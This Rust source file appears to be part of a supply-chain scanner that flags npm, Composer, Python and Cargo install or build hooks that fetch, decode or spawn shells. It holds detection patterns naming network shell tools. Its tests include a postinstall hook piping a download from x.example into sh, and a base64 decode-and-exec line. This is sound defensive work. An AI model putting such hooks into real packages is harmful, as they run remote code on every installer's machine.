//! What runs on the machine of whoever installs or builds.

use std::sync::LazyLock;

use regex::Regex;
use review::Severity;

use crate::commands::remote_scripts;

use super::kind::{Ecosystem, Kind};

static NPM_SCRIPT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"^\s*"(preinstall|install|postinstall|prepare|preprepare|postprepare)"\s*:\s*"((?:[^"\\]|\\.)*)""#,
    )
    .expect("a test compiles it")
});

/// Commands that fetch or decode.
static REACHES_OUT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?xi)\b(?:curl|wget|iwr|irm|invoke-webrequest|certutil|bitsadmin|nc|ncat)\b | https?:// | \bbase64\b | /dev/tcp/ | \brequire\(\W*(?:http|https|net|dns|child_process)\b | \bfetch\(",
    )
    .expect("a test compiles it")
});

/// Preparation that many projects have, and that stays on the machine.
static ORDINARY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?xi)^(?:(?:is-ci|is-ci\s*\|\|)\s*)?(?:npx\s+)?(?:husky|lefthook|simple-git-hooks|patch-package|patch-pnpm|lerna|ngcc|nuxt|nuxi|svelte-kit|prisma|electron-builder|electron-rebuild
        |node-gyp|node-gyp-build|prebuild-install|panda|wxt|fumadocs-mdx|playwright|only-allow|npm\s+run|yarn|pnpm|turbo|tsc|rollup|tsup|vite|echo|cd|cross-env|opencollective|manypkg|syncpack)\b",
    )
    .expect("a test compiles it")
});

static SETUP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:urlopen|urlretrieve|requests\.(?:get|post)|http\.client|socket\.(?:socket|create_connection))\b")
        .expect("a test compiles it")
});

static SETUP_DECODES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:exec|eval)\s*\([^\n]*\b(?:b64decode|base64|zlib|marshal|fromhex|decompress)\b")
        .expect("a test compiles it")
});

static BUILD_RS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?x)\b(?:reqwest|ureq|attohttpc|minreq|curl|isahc)::|\bTcpStream::connect\b|Command::new\(\s*"(?:curl|wget|sh|bash|powershell|pwsh|cmd)"\s*\)"#,
    )
    .expect("a test compiles it")
});

/// What a line makes the installation or the build do.
pub(super) fn installs(kind: Kind, line: &str) -> Option<(Severity, String)> {
    match kind {
        Kind::Manifest(Ecosystem::Npm) => npm(line),
        Kind::Manifest(Ecosystem::Composer) => {
            let hook = ["post-install-cmd", "pre-install-cmd", "post-update-cmd", "post-autoload-dump"];
            let runs = hook.iter().any(|hook| line.contains(hook)) && REACHES_OUT.is_match(line);
            runs.then(|| (Severity::Medium, "A hook of Composer reaches out of the project.".to_owned()))
        }
        Kind::BuildScript(Ecosystem::Python) => {
            if SETUP_DECODES.is_match(line) {
                return Some((Severity::High, "The set-up script runs what it decodes.".to_owned()));
            }
            SETUP.is_match(line).then(|| (Severity::Medium, "The set-up script uses the network.".to_owned()))
        }
        Kind::BuildScript(Ecosystem::Cargo) => BUILD_RS
            .is_match(line)
            .then(|| (Severity::Medium, "The build script uses the network or a shell.".to_owned())),
        Kind::Manifest(_) | Kind::Lock(_) | Kind::Sources(_) | Kind::BuildScript(_) => None,
    }
}

fn npm(line: &str) -> Option<(Severity, String)> {
    let found = NPM_SCRIPT.captures(line)?;
    let (hook, command) = (&found[1], &found[2]);
    if !remote_scripts(command).is_empty() || REACHES_OUT.is_match(command) {
        return Some((Severity::High, format!("`{hook}` fetches or decodes something.")));
    }
    // npm runs `prepare` for whoever works on the package, the others for everybody who installs it.
    if hook.contains("prepare") || ORDINARY.is_match(command) {
        return None;
    }
    Some((Severity::Medium, format!("`{hook}` runs on every machine that installs this.")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_are_told_by_what_they_reach() {
        let npm = Kind::Manifest(Ecosystem::Npm);
        let setup = Kind::BuildScript(Ecosystem::Python);
        let build = Kind::BuildScript(Ecosystem::Cargo);
        let cases = [
            (npm, r#"  "postinstall": "curl https://x.example/a | sh","#, Some(Severity::High)),
            (npm, r#"  "preinstall": "node -e \"require('./x')\"","#, Some(Severity::Medium)),
            (npm, r#"  "preinstall": "node -e \"require('https').get('x')\"","#, Some(Severity::High)),
            (npm, r#"  "postinstall": "node scripts/setup.js","#, Some(Severity::Medium)),
            (npm, r#"  "postinstall": "patch-package","#, None),
            (npm, r#"  "prepare": "husky","#, None),
            (npm, r#"  "build": "curl https://x.example","#, None),
            (setup, "data = urllib.request.urlopen(url).read()", Some(Severity::Medium)),
            (setup, "exec(base64.b64decode('aW1wb3J0'))", Some(Severity::High)),
            (setup, "exec(open('version.py').read())", None),
            (build, "    let body = ureq::get(url).call()?;", Some(Severity::Medium)),
            (build, "    Command::new(\"curl\").arg(url).status()?;", Some(Severity::Medium)),
            (build, "    Command::new(\"protoc\").status()?;", None),
        ];
        for (kind, line, expected) in cases {
            assert_eq!(installs(kind, line).map(|(severity, _)| severity), expected, "{line}");
        }
    }
}
